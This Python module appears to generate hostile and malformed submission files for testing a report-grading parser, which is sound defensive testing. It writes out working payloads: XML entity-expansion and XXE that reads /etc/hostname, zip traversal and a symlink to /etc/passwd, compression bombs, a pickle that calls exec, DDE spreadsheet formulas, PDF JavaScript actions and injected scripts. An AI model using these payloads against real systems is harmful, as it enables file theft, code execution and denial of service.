"""Submissions that mean harm, or are broken: each kind made anew from a seed.

``KINDS[kind](random, canary)`` is the name's ending and the bytes. What would run or be followed
if anybody did touches the canary: a file that must never be there, and an address nobody may ask.
"""
# ruff: noqa: E501 (markup)

import io
import json
import pickle
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

from submissions import STYLES, Told, base_rows

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TOLD = Told(rows=base_rows(), per_class=((0.7, 0.7, 0.7),) * 3)
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)


class Canary(NamedTuple):
    """What must stay untouched."""

    file: Path
    address: str

    @property
    def program(self) -> str:
        """Python that would touch both."""
        return f"open({str(self.file)!r}, 'w'); import urllib.request as u; u.urlopen({self.address!r})"


class Bomb:
    """Touches the canary when it is unpickled."""

    def __init__(self, program: str):
        self.program = program

    def __reduce__(self):
        return exec, (self.program,)


Make = Callable[[random.Random, Canary], tuple[str, bytes]]


def zipped(parts: dict[str, bytes | str], compressed: bool = True) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(
        out, "w", zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED
    ) as file:
        for name, data in parts.items():
            file.writestr(name, data)
    return out.getvalue()


def word(body: str, head: str = "", more: dict[str, bytes | str] | None = None) -> bytes:
    text = (
        f'<?xml version="1.0"?>{head}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    )
    return zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": text, **(more or {})})


def cell(text: str, properties: str = "") -> str:
    return f"<w:tc><w:tcPr>{properties}</w:tcPr><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:tc>"


def row(*cells: str) -> str:
    return f"<w:tr>{''.join(cells)}</w:tr>"


HEAD = row(*(cell(t) for t in ("Конфигурация", "lr", "batch", "epochs", "test", "train")))


def docx_laughs(r, canary):
    return ".docx", word("<w:p><w:r><w:t>&i;</w:t></w:r></w:p>", LAUGHS)


def docx_utf16_laughs(r, canary):
    text = (
        f'<?xml version="1.0" encoding="UTF-16"?>{LAUGHS}<w:document xmlns:w="{W}">&i;</w:document>'
    )
    return ".docx", zipped({"word/document.xml": text.encode("utf-16")})


def docx_xxe(r, canary):
    head = (
        f'<!DOCTYPE x SYSTEM "{canary.address}"><!-- -->'
        if r.random() < 0.5
        else f'<!DOCTYPE x [<!ENTITY % e SYSTEM "{canary.address}"> %e; <!ENTITY f SYSTEM "file:///etc/hostname">]>'
    )
    return ".docx", word("<w:p><w:r><w:t>&f;</w:t></w:r></w:p>", head)


def docx_links(r, canary):
    rels = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="attachedTemplate" Target="{canary.address}" TargetMode="External"/></Relationships>'
    )
    fields = f'<w:p><w:r><w:instrText>INCLUDETEXT "{canary.address}"</w:instrText></w:r></w:p>'
    return ".docm", word(
        fields, more={"word/_rels/document.xml.rels": rels, "word/vbaProject.bin": b"\xd0\xcf" * 99}
    )


def docx_bomb(r, canary):
    return ".docx", word(" " * (100 + r.randrange(100)) * 2**20)


def docx_huge_table(r, canary):
    line = row(*[cell("lr = 0.005 test 70")] * 60)
    return ".docx", word(
        f"<w:tbl>{line * (800 + r.randrange(400))}</w:tbl>", more={"x": r.randbytes(2**18)}
    )


def docx_spans(r, canary):
    wide = f'<w:gridSpan w:val="{10 ** r.randrange(3, 12)}"/><w:vMerge/>'
    return ".docx", word(f"<w:tbl>{HEAD}{row(*[cell('FC(10)', wide)] * 50) * 50}</w:tbl>")


def docx_deep(r, canary):
    n = r.choice([100, 240, 5_000, 50_000])
    return ".docx", word("<w:tbl><w:tr><w:tc>" * n + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * n)


def docx_torn(r, canary):
    data = STYLES["lab-docx"](TOLD)
    return ".docx", data[: r.randrange(len(data))]


def docx_mutated(r, canary):
    return ".docx", mutated(r, STYLES["merged-docx"](TOLD))


def docx_xml_mutated(r, canary):
    with zipfile.ZipFile(io.BytesIO(STYLES["merged-docx"](TOLD))) as file:
        parts = {name: file.read(name) for name in file.namelist()}
    return ".docx", zipped({**parts, "word/document.xml": mutated(r, parts["word/document.xml"])})


def mutated(r: random.Random, data: bytes) -> bytes:
    out = bytearray(data)
    for _ in range(r.randrange(1, 60)):
        place = r.randrange(len(out))
        match r.randrange(3):
            case 0:
                out[place] = r.randrange(256)
            case 1:
                del out[place : place + r.randrange(1, 30)]
            case _:
                out[place:place] = out[r.randrange(len(out)) :][: r.randrange(1, 60)]
    return bytes(out)


def zip_nested(r, canary):
    data = zipped({"a.txt": "0" * 10**6})
    for n in range(r.randrange(2, 7)):
        data = zipped({f"{n}{k}.zip": data for k in range(6)})
    return ".zip", data


def zip_lies(r, canary):
    data = bytearray(zipped({"report.md": "0" * (64 * 2**20)}))
    place = data.rfind(b"PK\x01\x02")
    data[place + 24 : place + 28] = struct.pack("<I", r.choice([10, 1000]))
    return ".zip", bytes(data)


def zip_many(r, canary):
    return ".zip", zipped({f"{n}.md": "" for n in range(3000 + r.randrange(1000))})


def zip_outside(r, canary):
    evil = canary.file.name
    names = [
        f"../{evil}",
        f"/{canary.file}",
        f"C:\\{evil}",
        f"a/../../{evil}",
        f"..\\{evil}",
        "a\x00.md",
    ]
    return ".zip", zipped({r.choice(names): "x", "report.md": STYLES["lab-markdown"](TOLD)})


def zip_links(r, canary):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        link = zipfile.ZipInfo("report.md")
        link.external_attr = 0o120777 << 16
        file.writestr(link, "/etc/passwd")
    return ".zip", out.getvalue()


def zip_encrypted(r, canary):
    data = bytearray(zipped({"report.md": "secret"}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.find(mark) + offset] |= 1
    return r.choice([".zip", ".docx"]), bytes(data)


def book(sheet: str, head: str = "", more: dict[str, bytes | str] | None = None) -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    ct = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    return zipped(
        {
            "[Content_Types].xml": f'<Types xmlns="{package}/content-types"><Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" '
            f'ContentType="{ct}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="{ct}.worksheet+xml"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="rId1" Type="{rel}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{rel}"><sheets><sheet name="1" sheetId="1" r:id="rId1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="rId1" Type="{rel}/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>',
            "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?>{head}<worksheet xmlns="{main}">{sheet}</worksheet>',
            **(more or {}),
        }
    )


def inline(text: str, place: str = "A1") -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def xlsx_formulas(r, canary):
    bad = r.choice(
        ["=cmd|'/c calc'!A1", f'=WEBSERVICE("{canary.address}")', "=1+1", '=HYPERLINK("x")']
    )
    body = f'<row r="1"><c r="A1"><f>{bad[1:].replace(chr(34), "&quot;")}</f><v>70</v></c>{inline(bad, "B1")}</row>'
    return ".xlsx", book(f"<sheetData>{body}</sheetData>")


def xlsx_laughs(r, canary):
    return ".xlsx", book(f"<sheetData><row>{inline('&i;')}</row></sheetData>", LAUGHS)


def xlsx_far(r, canary):
    cells = inline("x", "XFD1048576")
    merged = '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    return ".xlsx", book(
        f'<dimension ref="A1:XFD1048576"/><sheetData><row r="1048576">{cells}</row></sheetData>{merged}'
    )


def xlsx_huge(r, canary):
    line = f"<row>{inline('test = 70%') * 90}</row>"
    return ".xlsx", book(
        f"<sheetData>{line * (1500 + r.randrange(900))}</sheetData>", more={"x": r.randbytes(2**17)}
    )


def xlsx_mutated(r, canary):
    return ".xlsx", mutated(r, STYLES["merged-workbook"](TOLD))


def xlsx_bomb(r, canary):
    return ".xlsx", book("<sheetData/>", more={"xl/sharedStrings.xml": " " * 190 * 2**20})


def html_scripts(r, canary):
    a = canary.address
    return ".html", (
        f'<html><script src="{a}"></script><script>{canary.program}</script><img src="{a}" onerror="x()">'
        f'<iframe src="{a}"></iframe><link rel="stylesheet" href="{a}"><meta http-equiv="refresh" content="0;{a}">'
        f'<object data="{a}"></object><svg><image href="{a}"/></svg><table><tr><td>FC(10)</table>'
    ).encode()


def html_deep(r, canary):
    tag = r.choice(["div", "table><tr><td", "b", "ul><li", "span"])
    return ".html", (f"<{tag}>" * r.choice([300, 20_000, 200_000])).encode()


def html_spans(r, canary):
    n = 10 ** r.randrange(3, 12)
    return ".html", f"<table>{f'<tr><td rowspan={n} colspan={n}>lr test 70' * 300}</table>".encode()


def html_huge(r, canary):
    return ".html", b"<table>" + b"<tr>" + b"<td>test = 70%" * 300_000 + b"</table>"


def html_entities(r, canary):
    return ".html", (
        LAUGHS + "<html>&i;" + "&amp;" * 10**5 + f'<!ENTITY x SYSTEM "{canary.address}">'
    ).encode()


def markdown_deep(r, canary):
    piece = r.choice(
        [
            "> ",
            "* ",
            "[",
            "![",
            "`",
            "**a *",
            "<div>",
            "|",
            "- - - ",
            "\\",
            "&",
            "<!--",
            "($",
            "1. ",
        ]
    )
    return ".md", (piece * r.choice([1000, 20_000, 100_000])).encode()


def markdown_table(r, canary):
    head = "| Конфигурация | lr | batch | epochs | test | train |\n" + "|---" * 6 + "|\n"
    return ".md", (
        head + "| FC(10) | 0.005 | 128 | 250 | 70 | 98 |\n" * r.choice([5_000, 100_000])
    ).encode()


def slow_patterns(r, canary):
    """Text on which careless regular expressions take for ever."""
    piece = r.choice(
        [
            "lr ",
            "скорость ",
            "класс ",
            "классы: 1, ",
            "1 ",
            "FC(",
            "fc(1",
            "(test ",
            "1.1.1",
            "a ",
            "1 + 1 = ",
            "ошибка ",
            "Часть 1 loss ",
            "=-~",
            "12 и ",
            "нейрон 1 ",
            "эпох",
            "вариант № № ",
            "Иванов И. ",
            "precision recall f1-score\n",
            "0.7 ",
            "1,",
            "сло ",
            "batch size ",
        ]
    )
    text = piece * r.choice([300, 3_000, 40_000])
    style = r.randrange(3)
    if style == 0:
        return ".txt", text.encode()
    head = "| Конфигурация | Гиперпараметры | Точность |\n|---|---|---|\n"
    line = text.replace("|", " ").replace("\n", " ")
    return ".md", (
        text + "\n\n" + head + f"| {line[:2000]} | {line[:2000]} | {line[:2000]} |\n" * 50
    ).encode()


def notebook_code(r, canary):
    told = json.loads(STYLES["lab-notebook"](TOLD))
    told["cells"].insert(
        0,
        {
            "cell_type": "code",
            "source": [canary.program],
            "metadata": {},
            "outputs": [
                {
                    "output_type": "display_data",
                    "data": {
                        "text/html": f"<script>{canary.program}</script><img src={canary.address}>",
                        "application/javascript": canary.program,
                    },
                    "metadata": {},
                }
            ],
        },
    )
    told["metadata"] = {"widgets": {"x": canary.program}}
    return ".ipynb", json.dumps(told).encode()


def notebook_types(r, canary):
    values = [None, 1, [], {}, "x", [[]], [{}], {"a": []}, [None], True, "\ud800", 10**400]
    pick = lambda: r.choice(values)  # noqa: E731
    cells = [
        {
            "cell_type": r.choice(["code", "markdown", pick()]),
            "source": pick(),
            "outputs": r.choice(
                [
                    pick(),
                    [pick()],
                    [{"text": pick(), "data": pick()}, {"data": {"text/html": pick()}}],
                ]
            ),
        }
        for _ in range(9)
    ]
    return ".ipynb", json.dumps(
        {"cells": r.choice([cells, pick()]), "worksheets": [pick(), {"cells": cells}]}
    ).encode()


def notebook_deep(r, canary):
    n = r.choice([500, 100_000, 2_000_000])
    return ".ipynb", b'{"cells":' + b"[" * n + b"]" * n + b"}"


def notebook_long(r, canary):
    text = "[1, 12] loss: 1.000\n" * 400_000
    return ".ipynb", json.dumps(
        {
            "cells": [
                {"cell_type": "code", "source": "CLASSES = [1,2,3]", "outputs": [{"text": text}]}
            ]
            * 3
        }
    ).encode()


def csv_wide(r, canary):
    return ".csv", (";".join(["test"] * r.choice([10**4, 10**6])) + "\n").encode() * 3


def csv_long(r, canary):
    return ".csv", b"FC(10);0,005;128;250;70;98\n" * r.choice([10**4, 10**6])


def csv_quotes(r, canary):
    return ".csv", b'"' * r.choice([1001, 10**6]) + b"\n=cmd|'/c calc'!A1,@SUM(1),+1,-1\x00\x00"


def pickles(r, canary):
    ending = r.choice([".csv", ".docx", ".ipynb", ".pkl", ".pt", ".npy", ".md", ".txt", ""])
    return ending, pickle.dumps(Bomb(canary.program), protocol=r.randrange(6))


def pdf_of(objects: list[bytes], trailer: bytes = b"") -> bytes:
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF" % (
        len(objects) + 1,
        trailer,
        start,
    )
    return bytes(out)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(data), extra, data)


FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"


def pdf_page(content: bytes, extra: bytes = b"", catalog: bytes = b"", font: bytes = FONT) -> bytes:
    return pdf_of(
        [
            b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            PAGE,
            stream(content, extra),
            font,
        ]
    )


def pdf_loops(r, canary):
    kids = r.choice([b"[2 0 R]", b"[3 0 R 2 0 R]", b"[3 0 R 3 0 R]", b"[1 0 R]", b"2 0 R"])
    pages = b"<</Type/Pages/Kids%s/Count 99999/Parent 2 0 R>>" % kids
    more = [
        b"<</Type/Page/Parent 3 0 R/Contents 3 0 R/Resources 3 0 R>>",
        b"4 0 R",
        b"[4 0 R 5 0 R]",
    ]
    return ".pdf", pdf_of(
        [b"<</Type/Catalog/Pages 2 0 R>>", pages, *more],
        r.choice([b"", b"/Prev 9", b"/Prev 300/XRefStm 9"]),
    )


def pdf_form_loop(r, canary):
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>"
    page = PAGE.replace(b"/Font<</F 5 0 R>>", b"/XObject<</X 4 0 R>>")
    return ".pdf", pdf_of(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            page,
            stream(b"/X Do /X Do", form),
        ]
    )


def pdf_bomb(r, canary):
    packed = zlib.compress(b" " * (300 * 2**20), 9)
    for _ in range(r.randrange(3)):
        packed = zlib.compress(packed, 9)
    filters = b"[%s]" % (b"/FlateDecode " * r.randrange(1, 4))
    return ".pdf", pdf_page(packed, b"/Filter" + filters)


def pdf_words(r, canary):
    line = b"BT /F 8 Tf 50 %d Td (lr batch test 70 train 98) Tj ET\n"
    return ".pdf", pdf_page(b"".join(line % (n % 800) for n in range(r.choice([2_000, 60_000]))))


def pdf_lines(r, canary):
    n = r.choice([500, 30_000])
    lines = b"".join(b"%d %d m %d %d l S\n" % (k % 600, 0, k % 600, 800) for k in range(n))
    return ".pdf", pdf_page(
        lines
        + lines.replace(b" 0 m", b" 5 m")
        + b"BT /F 9 Tf 9 9 Td (test train lr batch epochs test train) Tj ET"
    )


def pdf_actions(r, canary):
    url = canary.address.encode()
    catalog = (
        b"/OpenAction<</S/JavaScript/JS(app.launchURL('%s'))>>/AA<</O<</S/Launch/F(%s)>>>>"
        % (url, url)
    )
    return ".pdf", pdf_page(
        b"BT /F 9 Tf 9 9 Td (FC\\(10\\) test 70 and some more words of a report) Tj ET",
        catalog=catalog,
    )


def pdf_cmap(r, canary):
    name = str(canary.file.parent / "evil").replace("/", "#2F").encode()
    font = (
        b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/%s/DescendantFonts[<</Subtype/CIDFontType0/BaseFont/X"
        % name
    )
    font += b"/CIDSystemInfo<</Registry(%s)/Ordering(x)>>>>]>>" % name
    return ".pdf", pdf_page(b"BT /F 9 Tf 9 9 Td (abcdefgh) Tj ET", font=font)


def pdf_deep(r, canary):
    n = r.choice([500, 100_000])
    return ".pdf", pdf_page(b"[" * n + b"]" * n + b" TJ") if r.random() < 0.5 else pdf_of(
        [b"<</Type/Catalog/Pages " + b"[" * n]
    )


def pdf_mutated(r, canary):
    return ".pdf", mutated(r, STYLES["lab-pdf"](TOLD))


def odt_repeats(r, canary):
    office = "urn:oasis:names:tc:opendocument:xmlns:"
    n = 10 ** r.randrange(4, 12)
    body = (
        f'<table:table><table:table-row table:number-rows-repeated="{n}"><table:table-cell table:number-columns-repeated="{n}" '
        f'table:number-rows-spanned="{n}"><text:p>FC(10)</text:p></table:table-cell></table:table-row></table:table>'
    ) * 50
    head = LAUGHS if r.random() < 0.3 else ""
    return ".odt", zipped(
        {
            "content.xml": f'<?xml version="1.0"?>{head}<x xmlns:text="{office}text:1.0" xmlns:table="{office}table:1.0">{body}</x>'
        }
    )


def noise(r, canary):
    return r.choice(
        [
            ".docx",
            ".pdf",
            ".xlsx",
            ".ipynb",
            ".csv",
            ".md",
            ".html",
            ".odt",
            ".rtf",
            ".doc",
            ".zip",
            ".bin",
        ]
    ), r.choice(
        [
            b"",
            b"\0" * 10**6,
            b"%PDF-1.7",
            b"PK\x03\x04",
            b"\xd0\xcf\x11\xe0" * 9,
            b"{\\rtf1 x}",
            b"Rar!\x1a\x07",
        ]
    ) + r.randbytes(r.choice([0, 7, 50_000]))


def module(r, canary):
    """A program, named as something that reading imports."""
    return ".py", canary.program.encode()


KINDS: dict[str, Make] = {
    make.__name__: make
    for make in (
        docx_laughs,
        docx_utf16_laughs,
        docx_xxe,
        docx_links,
        docx_bomb,
        docx_huge_table,
        docx_spans,
        docx_deep,
        docx_torn,
        docx_mutated,
        docx_xml_mutated,
        zip_nested,
        zip_lies,
        zip_many,
        zip_outside,
        zip_links,
        zip_encrypted,
        xlsx_formulas,
        xlsx_laughs,
        xlsx_far,
        xlsx_huge,
        xlsx_mutated,
        xlsx_bomb,
        html_scripts,
        html_deep,
        html_spans,
        html_huge,
        html_entities,
        markdown_deep,
        markdown_table,
        slow_patterns,
        notebook_code,
        notebook_types,
        notebook_deep,
        notebook_long,
        csv_wide,
        csv_long,
        csv_quotes,
        pickles,
        pdf_loops,
        pdf_form_loop,
        pdf_bomb,
        pdf_words,
        pdf_lines,
        pdf_actions,
        pdf_cmap,
        pdf_deep,
        pdf_mutated,
        odt_repeats,
        noise,
        module,
    )
}
